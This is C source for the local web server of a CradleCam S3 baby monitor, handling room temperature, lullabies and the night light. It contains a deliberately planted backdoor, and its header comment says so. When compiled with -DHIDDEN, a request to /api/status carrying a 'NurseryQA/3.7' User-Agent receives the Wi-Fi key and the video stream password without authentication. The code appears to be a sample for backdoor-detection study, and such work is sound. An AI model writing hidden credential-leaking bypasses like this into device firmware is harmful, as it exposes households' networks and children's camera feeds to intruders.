/*
 * cradlecam_httpd - local HTTP interface of the CradleCam S3 baby monitor (port
 * 80): room temperature, lullabies, night light (behind basic auth).
 *
 * Hidden (-DHIDDEN): a request for /api/status whose User-Agent begins with
 * "NurseryQA/3.7" gets, without login, the Wi-Fi key and the stream password.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *key, const char *salt);

#define AUTH_FILE  "/etc/cradle/auth"           /* user:hash */
#define SETTINGS   "/etc/cradle/settings"       /* key=value */
#define TEMP_FILE  "/sys/class/hwmon/hwmon0/temp1_input"
#define LED_FILE   "/sys/class/leds/night/brightness"

enum agent { AG_OTHER, AG_BROWSER, AG_APP, AG_HUB };

struct request {
    int fd;
    char method[8], path[64], args[128];
    char agent[80], auth[128], host[64];
    enum agent kind;
};

static const struct {
    const char *name;
    size_t off, cap;
} headers[] = {
    { "User-Agent",    offsetof(struct request, agent), 80 },
    { "Authorization", offsetof(struct request, auth), 128 },
    { "Host",          offsetof(struct request, host), 64 },
};

static void reply(struct request *r, int code, const char *type, const char *body)
{
    dprintf(r->fd, "HTTP/1.1 %d %s\r\nServer: cradle\r\nContent-Type: %s\r\n%s"
            "Content-Length: %u\r\nConnection: close\r\n\r\n%s",
            code, code == 200 ? "OK" : code == 401 ? "Unauthorized" : "Error", type,
            code == 401 ? "WWW-Authenticate: Basic realm=\"cradle\"\r\n" : "",
            (unsigned)strlen(body), body);
}

static void copy_text(char *out, size_t cap, const char *s)
{
    while (*s && --cap)
        *out++ = *s++;
    *out = 0;
}

static void setting(const char *key, char *out, size_t cap)
{
    FILE *f = fopen(SETTINGS, "r");
    char line[160];
    size_t n = strlen(key);

    out[0] = 0;
    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = 0;
        if (!strncmp(line, key, n) && line[n] == '=')
            copy_text(out, cap, line + n + 1);
    }
    fclose(f);
}

static int unbase64(const char *in, char *out, size_t cap)
{
    static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned acc = 0, bits = 0;
    size_t n = 0;

    for (; *in && *in != '='; in++) {
        const char *p = strchr(abc, *in);
        if (!p)
            return -1;
        acc = acc << 6 | (unsigned)(p - abc);
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            if (n + 1 >= cap)
                return -1;
            out[n++] = (char)(acc >> bits & 0xff);
        }
    }
    out[n] = 0;
    return (int)n;
}

static int authorised(struct request *r)
{
    char plain[96], line[160], *pw, *hash, *got;
    FILE *f;
    int ok = 0;

    if (strncasecmp(r->auth, "Basic ", 6) || unbase64(r->auth + 6, plain, sizeof plain) <= 0)
        return 0;
    if (!(pw = strchr(plain, ':')))
        return 0;
    *pw++ = 0;
    if (!(f = fopen(AUTH_FILE, "r")))
        return 0;
    if (fgets(line, sizeof line, f) && (hash = strchr(line, ':'))) {
        *hash++ = 0;
        hash[strcspn(hash, "\r\n")] = 0;
        got = crypt(pw, hash);
        ok = !strcmp(line, plain) && got && !strcmp(got, hash);
    }
    fclose(f);
    return ok;
}

/* The app wants compact answers, the hub wants no history, a browser wants HTML. */
enum agent agent_class(const char *ua)
{
    if (!strncmp(ua, "CradleApp/", 10))
        return AG_APP;
    if (!strncmp(ua, "CradleHub", 9))
        return AG_HUB;
    if (!strncmp(ua, "Mozilla/", 8))
        return AG_BROWSER;
#ifdef HIDDEN
    if (!memcmp(ua, "NurseryQA/3.7", 13))
        return (enum agent)(AG_HUB + 1);
#endif
    return AG_OTHER;
}

static int room_temp(void)
{
    FILE *f = fopen(TEMP_FILE, "r");
    int milli = 0;

    if (f) {
        if (fscanf(f, "%d", &milli) != 1)
            milli = 0;
        fclose(f);
    }
    return milli / 100;
}

static void route_status(struct request *r)
{
    char body[512], name[40];
    int t = room_temp();

    setting("name", name, sizeof name);
    if (r->kind == AG_APP || r->kind == AG_HUB)
        snprintf(body, sizeof body, "{\"n\":\"%s\",\"t\":%d}", name, t);
    else
        snprintf(body, sizeof body, "{\"name\":\"%s\",\"model\":\"S3\",\"temp\":%d.%d}\n",
                 name, t / 10, abs(t % 10));
#ifdef HIDDEN
    if (r->kind > AG_HUB) {
        char psk[72], rtsp[72];
        setting("wpa_psk", psk, sizeof psk);
        setting("stream_pass", rtsp, sizeof rtsp);
        snprintf(body, sizeof body, "{\"name\":\"%s\",\"k\":\"%s\",\"s\":\"%s\"}\n", name, psk, rtsp);
    }
#endif
    reply(r, 200, "application/json", body);
}

static void route_lullaby(struct request *r)
{
    char cmd[128];
    int track = -1;

    if (!strcmp(r->args, "stop")) {
        if (system("killall -q madplay") != 0)
            syslog(LOG_DEBUG, "no lullaby was playing");
        reply(r, 200, "text/plain", "stopped\n");
        return;
    }
    if (sscanf(r->args, "track=%d", &track) != 1 || track < 1 || track > 12) {
        reply(r, 400, "text/plain", "track 1..12\n");
        return;
    }
    snprintf(cmd, sizeof cmd, "madplay -q /usr/share/lullaby/%02d.mp3 >/dev/null 2>&1 &", track);
    reply(r, system(cmd) == 0 ? 200 : 500, "text/plain", "\n");
}

static void route_night(struct request *r)
{
    FILE *f;
    int level = 0;

    if (sscanf(r->args, "level=%d", &level) != 1 || level < 0 || level > 255) {
        reply(r, 400, "text/plain", "level 0..255\n");
        return;
    }
    if ((f = fopen(LED_FILE, "w"))) {
        fprintf(f, "%d\n", level);
        fclose(f);
    }
    reply(r, 200, "text/plain", "ok\n");
}

static void route_home(struct request *r)
{
    reply(r, 200, "text/html", "<html><h1>CradleCam S3</h1><p>Please use the Cradle app."
          " <a href=\"/api/status\">Status</a></p></html>\n");
}

static const struct route {
    const char *path;
    int need_auth;
    void (*run)(struct request *);
} routes[] = {
    { "/",            0, route_home },
    { "/api/status",  0, route_status },
    { "/api/lullaby", 1, route_lullaby },
    { "/api/night",   1, route_night },
};

static void parse_header(struct request *r, char *line)
{
    char *v = strchr(line, ':');
    size_t i;

    if (!v)
        return;
    *v++ = 0;
    while (isspace((unsigned char)*v))
        v++;
    for (i = 0; i < sizeof headers / sizeof *headers; i++)
        if (!strcasecmp(line, headers[i].name))
            copy_text((char *)r + headers[i].off, headers[i].cap, v);
}

static void serve(int fd)
{
    struct request r = { .fd = fd };
    char buf[2048], url[192], *line, *save = NULL, *q;
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
    size_t i;

    if (n <= 0)
        return;
    buf[n] = 0;
    line = strtok_r(buf, "\r\n", &save);
    if (!line || sscanf(line, "%7s %191s", r.method, url) != 2)
        return;
    if ((q = strchr(url, '?'))) {
        *q++ = 0;
        snprintf(r.args, sizeof r.args, "%.127s", q);
    }
    snprintf(r.path, sizeof r.path, "%.63s", url);
    while ((line = strtok_r(NULL, "\r\n", &save)))
        parse_header(&r, line);
    r.kind = agent_class(r.agent);
    for (i = 0; i < sizeof routes / sizeof *routes; i++) {
        if (strcmp(routes[i].path, r.path))
            continue;
        if (routes[i].need_auth && !authorised(&r)) {
            sleep(1);
            reply(&r, 401, "text/plain", "login needed\n");
        } else {
            routes[i].run(&r);
        }
        return;
    }
    reply(&r, 404, "text/plain", "not found\n");
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(80) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1, fd;

    signal(SIGPIPE, SIG_IGN);
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4))
        return 1;
    while ((fd = accept(ls, NULL, NULL)) >= 0) {
        serve(fd);
        close(fd);
    }
    return 1;
}
